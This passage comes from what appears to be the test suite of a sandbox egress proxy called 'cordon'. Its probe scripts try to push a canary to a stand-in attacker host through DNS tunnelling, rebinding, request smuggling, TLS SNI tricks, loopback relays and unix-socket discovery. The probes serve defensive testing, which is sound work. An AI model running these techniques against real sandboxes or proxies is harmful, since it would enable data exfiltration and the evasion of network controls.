        'need curl curl',
        'curl -sS -m 4 "http://multi.cordon.test:$HP/?d=$C" 2>&1 | head -2',
        'curl -ksS -m 4 "https://multi.cordon.test:$SP/" 2>&1 | head -2',
        `curl --noproxy '*' -sS -m 4 "http://multi.cordon.test:$HP/" 2>&1 | head -2`,
      ]),
    leak: judged({ audit: [flowWith('flows to multi.cordon.test dialled at the legit address', 2, (d) => d.host === 'multi.cordon.test' && String(d.dialed ?? '').startsWith('127.77.0.1'))] }),
  },
  {
    id: 'net.rebind-resolver',
    class: 4,
    title: "DNS rebinding through the proxy's resolver: TTL 0, the allowed address first and the attacker's after; several A records",
    applies: (c) =>
      proxied(c) ?? (c.fixture.attackers!.resolverActive ? null : "not applicable: the test DNS server is not the proxy host's resolver (run under the test harness, as root)"),
    script: (c) =>
      sh(c, [
        'need curl curl',
        'for i in 1 2 3; do curl -sS -m 4 "http://rebind.cordon.test:$HP/?d=$C" 2>&1 | head -2; done',
        `curl --noproxy '*' -sS -m 4 "http://rebind.cordon.test:$HP/" 2>&1 | head -2`,
        'curl -ksS -m 4 "https://rebind.cordon.test:$SP/" 2>&1 | head -2',
        'curl -sS -m 4 "http://rebind-multi.cordon.test:$HP/" 2>&1 | head -2',
        'echo "== the sandbox resolver keeps one answer"; getent hosts rebind.cordon.test; sleep 1; getent hosts rebind.cordon.test',
      ]),
    leak: judged({
      audit: [blocked('dials refused after the answer changed', 2, 'rebind.cordon.test')],
      output: (out) => {
        const answers = [...out.matchAll(/^(198\.19\.\d+\.\d+)\s+rebind\.cordon\.test/gm)].map((m) => m[1]);
        return new Set(answers).size > 1 ? `the sandbox resolver changed its answer for rebind.cordon.test (${answers.join(', ')})` : null;
      },
    }),
  },

  // -- 5. DNS exfiltration ----------------------------------------------------
  {
    id: 'net.dns-other-servers',
    class: 5,
    title: "DNS queries carrying the canary over UDP and TCP port 53 to servers other than cordon's (the attacker's DNS address, public-looking addresses)",
    applies: endpoints,
    script: (c) =>
      python(c, String.raw`hx = C.encode().hex()[:60]
name = f'{hx}.{ATT}'
for server in [(I['dnsIp'], 53), ('203.0.113.53', 53), ('198.51.100.53', 53), ('198.18.0.53', 53)]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
    try:
        u.sendto(dns_query(name, 16), server); r, src = u.recvfrom(4096); say(f'UDP {server}', f'{dns_summary(r)} from {src}')
    except OSError as e: say(f'UDP {server}', f'{e}')
    finally: u.close()
for server in [(I['dnsIp'], 53), ('203.0.113.53', 53), ('198.18.0.53', 53)]:
    q = dns_query(name, 1)
    r = xchg(server, struct.pack('!H', len(q)) + q)
    say(f'TCP {server}', dns_summary(r[2:]) if isinstance(r, bytes) and len(r) > 2 else r)`),
    leak: judged({
      audit: [
        dnsQueries('the canary-bearing name answered locally by cordon, never forwarded', 3, (n) => n.includes('.attacker.cordon.test') && n.length > 40),
        blocked('TCP/53 to a server other than cordon refused', 1, '203.0.113.53'),
      ],
    }),
  },
  {
    id: 'net.dns-tunnel-labels',
    class: 5,
    title: 'a DNS tunnel through the sandbox resolver: long high-entropy labels under an allowed wildcard zone, A/AAAA/TXT/NULL/ANY/MX queries',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`raw = (C * 4).encode()
labels = [raw.hex()[i:i + 63] for i in range(0, 180, 63)]
b32 = base64.b32encode(raw).decode().rstrip('=').lower()[:63]
zone = N['cdnZone']
names = ['.'.join(labels) + '.' + zone, b32 + '.1.' + zone, b32 + '.' + ATT]
for name in names:
    for qtype in (1, 28, 16, 10, 255, 15):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
        try:
            u.sendto(dns_query(name, qtype), ('198.18.0.53', 53)); r = u.recv(4096); say(f'type {qtype} {name[:24]}...', dns_summary(r))
            if qtype != 1 and struct.unpack('!H', r[6:8])[0] > 0: print('DNS-DATA-RETURNED', qtype)
        except OSError as e: say(f'type {qtype}', str(e))
        finally: u.close()
os.system('getent hosts ' + names[0] + ' >/dev/null; echo getent done')`),
    leak: judged({
      audit: [dnsQueries('tunnel labels recorded', 12, (n) => n.endsWith('cdn.cordon.test') || n.includes('.attacker.cordon.test'))],
      output: (out) => (out.includes('DNS-DATA-RETURNED') ? 'the resolver returned records other than a synthetic A answer (a download channel)' : null),
    }),
  },
  {
    id: 'net.doh-dot',
    class: 5,
    title: 'DNS over HTTPS and over TLS to resolvers the policy does not allow (the attacker, captured addresses on 443/853)',
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'curl -ksS -m 4 --doh-url "https://attacker.cordon.test:$SP/dns-query" "http://$C.legit.cordon.test:$HP/" 2>&1 | head -2',
        'curl -ksS -m 4 -H "content-type: application/dns-message" --data-binary "$C" "https://attacker.cordon.test:$SP/dns-query" 2>&1 | head -2',
        python(c, String.raw`q = dns_query(C.encode().hex()[:50] + '.' + ATT, 1)
for addr in [('203.0.113.53', 853), ('203.0.113.53', 443)]:
    try:
        t, r = tls_over(dial(addr), 'dns.attacker.cordon.test')
        say(f'DoT/DoH {addr}', r)
        if t: t.sendall(struct.pack('!H', len(q)) + q); say('  answer', readall(t))
    except OSError as e: say(f'{addr}', str(e))`),
      ]),
    leak: judged({ audit: [blocked('DoH/DoT attempts refused', 3)] }),
  },

  // -- 6. IPv6 -------------------------------------------------------------------
  {
    id: 'net.ipv6-direct',
    class: 6,
    title: 'IPv6 straight out of the sandbox: global, unique-local, link-local, NAT64, loopback and v4-mapped, TCP and UDP',
    applies: endpoints,
    script: (c) =>
      python(c, String.raw`for host, port in [('2001:db8::66', HP), ('fd00:ec2::254', 80), ('fe80::1%lo', HP), ('64:ff9b::7f42:1', HP), ('::1', HP), ('::ffff:' + A, HP), ('2002:7f42:1::1', HP)]:
    say(f'TCP [{host}]:{port}', xchg((host, port), C.encode()))
for host, port in [('2001:db8::53', 53), ('2001:db8::66', 443), ('::1', UP), ('::ffff:203.0.113.66', 443)]:
    u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    try: u.sendto(C.encode(), (host, port)); say(f'UDP [{host}]:{port}', 'sent')
    except OSError as e: say(f'UDP [{host}]:{port}', str(e))
    finally: u.close()`),
    leak: judged({}),
  },
  {
    id: 'net.aaaa-only',
    class: 6,
    title: 'names with only IPv6 addresses (a static ::1 entry, an AAAA-only DNS name): the sandbox gets no AAAA and the proxy must not dial them',
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'curl -sS -m 4 "http://v6.cordon.test:$HP/?d=$C" 2>&1 | head -4',
        'curl -ksS -m 4 "https://v6.cordon.test:$SP/" 2>&1 | head -2',
        c.fixture.attackers!.resolverActive ? 'curl -sS -m 4 "http://aaaa-only.cordon.test:$HP/" 2>&1 | head -4' : 'echo "(no test resolver: aaaa-only.cordon.test skipped)"',
        'echo "== AAAA inside"; getent ahostsv6 v6.cordon.test || echo "no IPv6 address"',
      ]),
    leak: judged({
      audit: [blocked('dials to IPv6-only names refused', 2, 'v6.cordon.test')],
      output: (out) => (/^[0-9a-f:]+:[0-9a-f:]*\s+\S+\s+v6\.cordon\.test/im.test(out) ? 'the sandbox resolver handed out an IPv6 address' : null),
    }),
  },

  // -- 7. UDP, QUIC, ICMP, raw sockets -------------------------------------------
  {
    id: 'net.udp-quic',
    class: 7,
    title: "UDP out of the sandbox: QUIC to 443, to the attacker's UDP port, to the proxy's address, broadcast; curl --http3",
    applies: endpoints,
    script: (c) =>
      sh(c, [
        python(c, String.raw`quic = b'\xc3\x00\x00\x00\x01' + os.urandom(40) + C.encode()
lg = synth(N['legit']) or '198.19.0.1'
for host, port in [('203.0.113.66', 443), ('198.18.0.1', 443), (lg, 443), (lg, SP), ('198.18.0.53', 5353), (A, UP), ('255.255.255.255', UP), ('224.0.0.251', 5353)]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        u.sendto(quic, (host, port))
        print(f'UDP-SENT {host}:{port}' if not host.startswith('127.') else f'UDP {host}:{port}: sent (sandbox loopback)', flush=True)
    except OSError as e: say(f'UDP {host}:{port}', str(e))
    finally: u.close()`),
        'curl --http3-only -ksS -m 3 "https://legit.cordon.test:$SP/" 2>&1 | head -1',
      ]),
    leak: judged({ output: (out) => (/^UDP-SENT (\S+)/m.test(out) ? `a UDP datagram to ${/^UDP-SENT (\S+)/m.exec(out)![1]} was accepted: non-DNS UDP must be refused at once` : null) }),
  },
  {
    id: 'net.icmp-raw',
    class: 7,
    title: 'ICMP echo, ping sockets, raw IP and packet sockets (CAP_NET_RAW), ping',
    applies: endpoints,
    script: () =>
      [
        'command -v python3 >/dev/null || { echo "cordon selftest: this probe needs python3 (apt-get install -y python3)" >&2; exit 125; }',
        "python3 - <<'CORDON_PY'",
        String.raw`import socket, struct
echo = b'\x08\x00\xf7\xff\x00\x00\x00\x00'
tries = [('raw ICMP', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), ('ping socket', socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
         ('raw IP', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), ('raw ICMPv6', socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)]
for name, fam, typ, proto in tries:
    try:
        s = socket.socket(fam, typ, proto)
    except OSError as e:
        print(f'{name}: {e}'); continue
    try:
        s.sendto(echo, ('203.0.113.66' if fam == socket.AF_INET else '2001:db8::66', 0)); print(f'RAW-OK {name}: sent')
    except OSError as e: print(f'{name}: socket created, send refused: {e}')
    s.close()
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); print('RAW-OK packet socket')
except (OSError, AttributeError) as e: print(f'packet socket: {e}')`,
        'CORDON_PY',
        'command -v ping >/dev/null && ping -c 1 -W 1 203.0.113.66 2>&1 | tail -2',
        'true',
      ].join('\n'),
    leak: judged({ output: (out) => (/RAW-OK (.*)/.test(out) ? `${/RAW-OK (.*)/.exec(out)![1]}: a raw or ICMP send succeeded` : /\b1 received\b/.test(out) ? 'ping got an answer' : null) }),
  },

  // -- 8. Pivots -----------------------------------------------------------------
  {
    id: 'net.inside-relay',
    class: 8,
    title: 'a relay inside the sandbox (listening on its loopback, which NO_PROXY exempts) forwarding to the attacker and through the legit host',
    applies: endpoints,
    script: (c) =>
      sh(c, [
        'need curl curl',
        python(c, String.raw`import threading
def relay(port, target, rewrite=None):
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); srv.bind(('127.0.0.1', port)); srv.listen(4)
    def serve():
        while True:
            c, _ = srv.accept(); c.settimeout(3)
            data = c.recv(65536)
            if rewrite: data = rewrite(data)
            r = xchg(target(), data)
            c.sendall(r if isinstance(r, bytes) else (r + '\n').encode()); c.close()
    threading.Thread(target=serve, daemon=True).start()
relay(18080, lambda: (ATT, HP))
relay(18081, lambda: (synth(N['legit']) or '198.19.0.1', HP), lambda d: d.replace(b'127.0.0.1:18081', f'{ATT}:{HP}'.encode()))
relay(18082, lambda: PX, lambda d: d.replace(b'GET / ', f'GET http://{ATT}:{HP}/ '.encode()))
relay(18083, lambda: (ATT + '.', TP))
for p in (18080, 18081, 18082, 18083):
    say(f'via relay :{p}', os.popen(f'curl -sS -m 5 http://127.0.0.1:{p}/?d={C} 2>&1 | head -1').read().strip())`),
      ]),
    leak: judged({ audit: [blocked('relayed attempts refused', 2)], legit: legitClean() }),
  },
  {
    id: 'net.plain-http-denial',
    class: 8,
    title: 'plain HTTP to the attacker through the proxy variables; the denial must say what was blocked and nothing about the policy',
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'echo "--- DENIAL-BEGIN"; curl -sS -i -m 4 "http://attacker.cordon.test:$HP/upload?d=$C" 2>&1; echo "--- DENIAL-END"',
        'curl -sS -m 4 -X POST -d "$C" "http://api.cordon.test:$HP/admin" 2>&1 | head -3',
      ]),
    leak: judged({
      audit: [blocked('plain HTTP to the attacker', 1, 'attacker.cordon.test'), blocked('plain HTTP to a denied path', 1, '/admin')],
      output: (out, info) => denialProblem(out, info),
    }),
  },
  {
    id: 'net.nested-connect',
    class: 8,
    title: 'CONNECT and absolute-form requests inside an allowed tunnel (plain and TLS) and inside a transparent flow to an allowed host',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`inner = req('CONNECT', f'{ATT}:{HP}', f'{ATT}:{HP}')
s, st = tunnel(f"{N['legit']}:{HP}"); say('CONNECT legit (plain)', st)
if s: s.sendall(inner); say('  nested CONNECT', readall(s)); s.close()
s, st = tunnel(f"{N['api']}:{HP}")
if s: s.sendall(req('GET', f'http://{ATT}:{HP}/?d={C}', f'{ATT}:{HP}')); say('  absolute-form to the attacker in a tunnel', readall(s)); s.close()
s, st = tunnel(f"{N['api']}:{SP}")
if s:
    t, r = tls_over(s, N['api'], ssl.create_default_context(cafile='/run/cordon/ca-bundle.pem'))
    if t: t.sendall(req('CONNECT', f'{ATT}:{HP}', N['api'])); say('  nested CONNECT inside TLS', readall(t))
ip = synth(N['legit'])
say('transparent legit: CONNECT attacker', xchg((ip, HP), inner))
say('transparent legit: CONNECT to the proxy', xchg((ip, HP), req('CONNECT', '198.18.0.1:3128', '198.18.0.1:3128')))`),
    leak: judged({
      audit: [blocked('nested CONNECT or absolute-form requests refused', 4)],
      legit: (reqs) => {
        const bad = reqs.find((q) => q.method.startsWith('CONNECT') || q.url.includes('attacker'));
        return bad ? `the legit server received a nested ${bad.method} ${bad.url}` : legitClean()(reqs);
      },
    }),
  },
  {
    id: 'net.proxy-own-addresses',
    class: 8,
    title: "cordon's own addresses as destinations: other ports of the proxy and resolver, unassigned synthetic addresses, CONNECT to the proxy itself (a loop)",
    applies: proxied,
    script: (c) =>
      python(c, String.raw`for addr in [('198.18.0.1', 80), ('198.18.0.1', 8080), ('198.18.0.1', 22), ('198.18.0.1', 3129), ('198.18.0.53', 80), ('198.18.0.3', HP), ('198.19.255.254', HP), ('198.19.0.0', 80), ('198.18.255.255', 443)]:
    say(f'TCP {addr}', xchg(addr, req('GET', '/', 'x')))
for a in ['198.18.0.1:3128', '198.18.0.53:53', '198.19.0.1:' + str(HP), 'localhost:3128']:
    s, st = tunnel(a); say(f'CONNECT {a}', st)
    if s: print('LOOP-OK', a); s.close()
say('GET http://198.18.0.1:3128/', xchg(PX, req('GET', 'http://198.18.0.1:3128/', '198.18.0.1:3128')))
say('origin-form to the proxy', xchg(PX, req('GET', '/', 'cordon')))
say('local (198.18.0.2)', xchg(('198.18.0.2', 3128), b'GET / HTTP/1.1\r\n\r\n'))`),
    leak: judged({
      audit: [blocked("attempts on cordon's own addresses refused", 10)],
      output: (out) => (/^LOOP-OK (\S+)/m.test(out) ? `CONNECT to ${/^LOOP-OK (\S+)/m.exec(out)![1]} was accepted` : null),
    }),
  },
  {
    id: 'net.host-loopback',
    class: 8,
    title: "the host's loopback services through the proxy: localhost, 127.0.0.1, 127.1, 0, [::1] on ports where host services listen",
    applies: proxied,
    script: (c) =>
      python(c, String.raw`for h in ['localhost', 'LOCALHOST.', '127.0.0.1', '127.1', '0', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', 'ip6-localhost', 'localhost.localdomain']:
    for port in (HP, TP):
        s, st = tunnel(f'{h}:{port}'); say(f'CONNECT {h}:{port}', st)
        if s: s.sendall(C.encode()); say('  inside', readall(s)); s.close()
    say(f'GET http://{h}:{HP}', xchg(PX, req('GET', f'http://{h}:{HP}/?d={C}', f'{h}:{HP}')))`),
    leak: judged({ audit: [blocked('attempts on host loopback refused', 25)] }),
  },
  {
    id: 'net.unix-sockets',
    class: 8,
    title: "container-engine, cordon and other listening unix sockets reachable from inside (docker.sock, containerd, the session proxy's socket)",
    applies: endpoints,
    script: (c) =>
      [
        `for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /run/user/*/bus /run/dbus/system_bus_socket "${c.fixture.runtimeDir}"/*; do [ -e "$s" ] && echo "SOCKET-VISIBLE $s"; done`,
        'find /run /var/run /tmp /var/tmp /dev/shm "$HOME" -type s 2>/dev/null | head -20 | sed "s/^/FOUND /"',
        'command -v curl >/dev/null && for s in $(find /run /var/run /tmp -type s 2>/dev/null | head -10); do curl -sS -m 2 --unix-socket "$s" http://x/_ping 2>&1 | head -1 | sed "s|^|$s: |"; done',
        'ls /proc/net/unix >/dev/null 2>&1 && awk \'NR>1 && $8 ~ /^@/ {print "ABSTRACT " $8}\' /proc/net/unix | head -10',
        'true',
      ].join('\n'),
    leak: judged({
      output: (out) => {
        const m = /^(SOCKET-VISIBLE|FOUND) (\S*(docker|containerd|podman|proxy\.sock|system_bus|\/bus)\S*)/m.exec(out);
        return m ? `${m[2]} is reachable from inside` : null;
      },
    }),
  },

  // -- 9. Smuggling ----------------------------------------------------------------
  {
    id: 'net.smuggle-framing',
    class: 9,
    title: 'CL.TE, TE.CL, obfuscated Transfer-Encoding and duplicate Content-Length, each hiding a second request for a denied path and host',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`api = f"{N['api']}:{HP}"
hidden = req('GET', '/admin?smuggled=' + C, f'{ATT}:{HP}')
bodies = {
    'CL.TE': ([('Content-Length', str(5 + len(hidden))), ('Transfer-Encoding', 'chunked')], b'0\r\n\r\n' + hidden),
    'TE.CL': ([('Transfer-Encoding', 'chunked'), ('Content-Length', '4')], b'%x\r\n' % len(hidden) + hidden + b'\r\n0\r\n\r\n'),
    'TE xchunked': ([('Transfer-Encoding', 'xchunked'), ('Content-Length', str(len(hidden)))], hidden),
    'TE with tab': ([('Transfer-Encoding', '\tchunked')], b'0\r\n\r\n' + hidden),
    'TE list': ([('Transfer-Encoding', 'chunked, identity')], b'0\r\n\r\n' + hidden),
    'two TE': ([('Transfer-Encoding', 'chunked'), ('Transfer-Encoding', 'identity')], b'0\r\n\r\n' + hidden),
    'space before colon': ([('Transfer-Encoding ', 'chunked'), ('Content-Length', str(len(hidden)))], hidden),
    'duplicate CL': ([('Content-Length', '0'), ('Content-Length', str(len(hidden)))], hidden),
    'CL list': ([('Content-Length', f'0, {len(hidden)}')], hidden),
    'CL plus sign': ([('Content-Length', f'+{len(hidden)}')], hidden),
    'Transfer_Encoding': ([('Transfer_Encoding', 'chunked'), ('Content-Length', '5')], b'0\r\n\r\n' + hidden),
}
ip = synth(N['api'])
for name, (headers, body) in bodies.items():
    say(f'{name} via the proxy', xchg(PX, req('POST', f'http://{api}/api/upload', api, headers, body)))
    say(f'{name} transparent', xchg((ip, HP), req('POST', '/api/upload', api, headers, body)))`),
    leak: judged({ audit: [blocked('ambiguous framing refused', 20)], legit: legitClean('/admin', 'smuggled') }),
  },
  {
    id: 'net.h2c',
    class: 9,
    title: 'h2c upgrade and HTTP/2 prior knowledge to the allowed API, then HTTP/2 bytes for a denied path',
    applies: proxied,
    script: (c) =>
      sh(c, [
        python(c, String.raw`api = f"{N['api']}:{HP}"
preface = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + bytes.fromhex('000000040000000000')
up = [('Connection', 'Upgrade, HTTP2-Settings'), ('Upgrade', 'h2c'), ('HTTP2-Settings', 'AAMAAABkAARAAAAAAAIAAAAA')]
ip = synth(N['api'])
say('h2c upgrade via the proxy', xchg(PX, req('GET', f'http://{api}/api/x', api, up) + preface))
say('h2c upgrade transparent', xchg((ip, HP), req('GET', '/api/x', api, up) + preface))
say('prior knowledge transparent', xchg((ip, HP), preface))
say('prior knowledge to the proxy', xchg(PX, preface))`),
        'need curl curl',
        'curl -sS -m 4 --http2-prior-knowledge "http://api.cordon.test:$HP/admin?d=$C" 2>&1 | head -2',
        'curl -sS -m 4 --http2 "http://api.cordon.test:$HP/admin?d=$C" 2>&1 | head -2',
      ]),
    leak: judged({
      audit: [blocked('h2c and HTTP/2 attempts refused', 4)],
      legit: (reqs) => {
        const bad = reqs.find((q) => q.headers.some(([n, v]) => /^(upgrade|http2-settings)$/i.test(n) && /h2c|AAMA/i.test(v)) || q.url.includes('/admin'));
        return bad ? `the legit server received ${bad.method} ${bad.url} with an h2c upgrade or a denied path` : null;
      },
    }),
  },
  {
    id: 'net.websocket',
    class: 9,
    title: 'WebSocket upgrade to the attacker; an upgrade the server refuses followed by a raw request; binary frames after an accepted upgrade',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`api = f"{N['api']}:{HP}"
ws = [('Upgrade', 'websocket'), ('Connection', 'Upgrade'), ('Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='), ('Sec-WebSocket-Version', '13')]
say('upgrade to the attacker', xchg(PX, req('GET', f'http://{ATT}:{HP}/ws?d={C}', f'{ATT}:{HP}', ws)))
ip = synth(N['api'])
s = dial((ip, HP)); s.sendall(req('GET', '/api/nows', api, ws)); time.sleep(0.3)
say('refused upgrade', s.recv(4096))
s.sendall(req('GET', '/admin?after-refused-upgrade', f'{ATT}:{HP}')); say('  then a raw request', readall(s)); s.close()
s = dial((ip, HP)); s.sendall(req('GET', '/api/ws', api, ws)); time.sleep(0.3)
say('accepted upgrade', s.recv(4096))
payload = b'CONNECT ' + ATT.encode() + b' ' + C.encode()
s.sendall(b'\x82' + bytes([0x80 | len(payload)]) + b'\x00\x00\x00\x00' + payload); time.sleep(0.2); s.close()
print('binary frame sent to the legit server (allowed by policy: frames cannot change the destination)')`),
    leak: judged({
      audit: [blocked('the upgrade to the attacker', 1, 'attacker.cordon.test'), blocked('the raw request after a refused upgrade', 1), flowWith('the accepted upgrade recorded as a websocket flow', 1, (d) => d.protocol === 'websocket')],
      legit: (reqs) => {
        const after = reqs.find((q) => q.method.includes('upgrade refused') && q.body.toString('latin1').includes('/admin'));
        return after ? 'bytes sent after a refused upgrade reached the legit server unjudged' : legitClean('after-refused-upgrade')(reqs.filter((q) => !q.url.startsWith('/api/ws')));
      },
    }),
  },
  {
    id: 'net.expect-continue',
    class: 9,
    title: 'Expect: 100-continue with a body over the limit, to a denied path and to the attacker: no body byte may go out',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`api = f"{N['api']}:{HP}"
big = (C * 200).encode()[:5000]
ex = [('Expect', '100-continue'), ('Content-Length', str(len(big)))]
def expect(addr, target, host):
    try: s = dial(addr)
    except OSError as e: return f'connect failed {e}'
    s.sendall(req('POST', target, host, ex)); time.sleep(0.3)
    try: first = s.recv(4096)
    except OSError as e: first = f'{e}'.encode()
    try: s.sendall(big)
    except OSError: pass
    rest = readall(s); s.close()
    return first or rest
say('over the limit', expect(PX, f'http://{api}/api/upload', api))
say('denied path', expect(PX, f'http://{api}/admin', api))
say('the attacker', expect(PX, f'http://{ATT}:{HP}/', f'{ATT}:{HP}'))
say('over the limit, transparent', expect((synth(N['api']), HP), '/api/upload', api))`),
    leak: judged({
      audit: [blocked('Expect requests refused before their bodies', 4)],
      legit: (reqs) => {
        const bad = reqs.find((q) => q.body.length > 0 || q.url.includes('/admin'));
        return bad ? `the legit server received ${bad.body.length} body bytes for ${bad.method} ${bad.url}` : null;
      },
    }),
  },

  // -- 10. TLS edges ---------------------------------------------------------------
  {
    id: 'net.tls-split-hello',
    class: 10,
    title: 'a ClientHello naming the attacker split into many TLS records and sent a few bytes at a time, in CONNECT tunnels and transparently',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`hs = hello(ATT)
msg = records(hs, 40)
for host in (N['legit'], N['api']):
    s, st = tunnel(f'{host}:{SP}')
    if s:
        for part in chunked(msg, 7): s.sendall(part); time.sleep(0.002)
        say(f'split hello in CONNECT {host}', readall(s)); s.close()
    say(f'split hello transparent {host}', xchg((synth(host), SP), chunks=chunked(msg, 7)))
att = synth(ATT)
say('split hello to the attacker name', xchg((att, SP), chunks=chunked(msg, 7)) if att else 'the attacker name does not resolve')`),
    leak: judged({ audit: [flowWith('flows where the proxy read the split SNI and refused it', 4, (d) => d.sni === 'attacker.cordon.test' && d.stage === 'identity')] }),
  },
  {
    id: 'net.tls-big-hello',
    class: 10,
    title: "a ClientHello over 1 KB and one over 16 KB (two records), the attacker's name after the padding",
    applies: proxied,
    script: (c) =>
      python(c, String.raw`for pad in (1500, 20000):
    msg = records(hello(ATT, pad=pad, sni_last=True))
    for host in (N['legit'], N['api']):
        s, st = tunnel(f'{host}:{SP}')
        if s: s.sendall(msg); say(f'{len(msg)}-byte hello in CONNECT {host}', readall(s)); s.close()
        say(f'{len(msg)}-byte hello transparent {host}', xchg((synth(host), SP), msg))`),
    leak: judged({ audit: [flowWith('flows where the proxy read the late SNI and refused it', 8, (d) => d.sni === 'attacker.cordon.test' && d.stage === 'identity')] }),
  },
  {
    id: 'net.tls-ech',
    class: 10,
    title: 'a ClientHello with encrypted_client_hello whose public name is allowed: cordon must terminate it, never splice it to the server',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`msg = records(hello(N['legit'], ech=True))
def first_record(s):
    s.settimeout(2); s.sendall(msg)
    try: r = s.recv(5)
    except OSError as e: r = f'{e}'
    s.close(); return r
r = first_record(dial((synth(N['legit']), SP)))
say('ECH hello transparent legit', r)
s, st = tunnel(f"{N['legit']}:{SP}")
if s: say('ECH hello in CONNECT legit', first_record(s))`),
    // legit.cordon.test is allowed outright, so without ECH its TLS is spliced: terminated means ECH was seen.
    leak: judged({ audit: [flowWith('ECH flows to the spliced host terminated by cordon instead', 2, (d) => d.host === 'legit.cordon.test' && d.protocol === 'tls-terminate')] }),
  },
  {
    id: 'net.tls-resumption',
    class: 10,
    title: 'resume a TLS session under another server name: a real ticket from the terminated API replayed with SNI=attacker, and a forged PSK hello',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`ctx = ssl.create_default_context(cafile='/run/cordon/ca-bundle.pem')
ctx.set_alpn_protocols(['http/1.1'])
sess = None
s, st = tunnel(f"{N['api']}:{SP}")
if s:
    t, r = tls_over(s, N['api'], ctx); say('first handshake', r)
    if t:
        t.sendall(req('GET', '/api/resume', f"{N['api']}:{SP}", [('Connection', 'close')])); say('  answer', readall(t)); sess = t.session; t.close()
print('got a session ticket' if sess is not None else 'no session ticket')
loose = unverified()
for how in ('connect', 'transparent'):
    s = tunnel(f"{N['api']}:{SP}")[0] if how == 'connect' else dial((synth(N['api']), SP))
    if s and sess is not None:
        try:
            t = ctx.wrap_socket(s, server_hostname=ATT, session=sess, do_handshake_on_connect=False)
            t.context.check_hostname = False
            t.do_handshake(); say(f'resumed ({how}) with SNI attacker', f'reused={t.session_reused}')
        except (OSError, ValueError) as e: say(f'resume ({how}) with SNI attacker', str(e))
    s = tunnel(f"{N['api']}:{SP}")[0] if how == 'connect' else dial((synth(N['api']), SP))
    if s: s.sendall(records(hello(ATT, psk=True))); say(f'forged PSK hello ({how})', readall(s)); s.close()`),
    leak: judged({ audit: [flowWith('resumption attempts refused at the identity check', 2, (d) => d.sni === 'attacker.cordon.test' && d.stage === 'identity')] }),
  },

  // -- 12. Exfiltration through allowed hosts ----------------------------------------
  {
    id: 'net.exfil-body-limit',
    class: 12,
    title: 'POST the canary to the allowed API over its 1 KiB body limit: Content-Length, chunked, HTTPS, HTTP/1.0',
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'i=0; : > /tmp/big; while [ $i -lt 120 ]; do printf "%s" "$C" >> /tmp/big; i=$((i+1)); done; wc -c < /tmp/big',
        'curl -sS -m 5 --data-binary @/tmp/big "http://api.cordon.test:$HP/api/upload" 2>&1 | head -3',
        'curl -sS -m 5 -H "Transfer-Encoding: chunked" --data-binary @/tmp/big "http://api.cordon.test:$HP/api/upload" 2>&1 | head -3',
        'curl -sS -m 5 --data-binary @/tmp/big "https://api.cordon.test:$SP/api/upload" 2>&1 | head -3',
        'curl -sS -m 5 -H "Transfer-Encoding: chunked" --data-binary @/tmp/big "https://api.cordon.test:$SP/api/upload" 2>&1 | head -3',
        'curl -sS -m 5 --http1.0 --data-binary @/tmp/big "http://api.cordon.test:$HP/api/upload" 2>&1 | head -3',
      ]),
    leak: judged({
      audit: [blocked('requests over the body limit refused', 5, '/api/upload')],
      legit: (reqs) => {
        const big = reqs.find((q) => q.body.length > 1024);
        return big ? `the legit server received a ${big.body.length}-byte body (limit 1024)` : null;
      },
    }),
  },
  {
    id: 'net.exfil-method-path',
    class: 12,
    title: 'send the canary with a method or to a path the rule does not allow: PUT, DELETE, PATCH, /upload, /api/../admin, %2F, case tricks',
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'for m in PUT DELETE PATCH; do curl -sS -m 4 -X $m -d "$C" "http://api.cordon.test:$HP/api/x" 2>&1 | head -1; done',
        'for p in "/upload?d=$C" "/api/../admin" "/api%2F..%2Fadmin" "/API/x" "/apix" "/%2e%2e/admin" "//admin"; do curl -sS -m 4 --path-as-is -d "$C" "http://api.cordon.test:$HP$p" 2>&1 | head -1; done',
        'curl -sS -m 4 -X PUT -d "$C" "https://api.cordon.test:$SP/api/x" 2>&1 | head -1',
        'curl -sS -m 4 --path-as-is "https://api.cordon.test:$SP/api/../admin?d=$C" 2>&1 | head -1',
      ]),
    leak: judged({ audit: [blocked('requests refused by method or path', 12, 'api.cordon.test')], legit: noLegitRequests }),
  },
  {
    id: 'net.exfil-audit-trail',
    class: 12,
    title: 'data in the query, headers and a small body to the allowed API passes (the policy grants it); each request must be audited with its byte counts',
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'B64=$(printf "%s" "$C" | base64 | tr -d "\\n")',
        'curl -sS -m 4 -H "X-Data: $B64" "http://api.cordon.test:$HP/api/q?d=$C" 2>&1 | head -1',
        'curl -sS -m 4 -d "payload=$C$C$C$C" "https://api.cordon.test:$SP/api/p" 2>&1 | head -1',
      ]),
    leak: judged({
      audit: [
        {
          what: 'allowed request records with the query size and the header names',
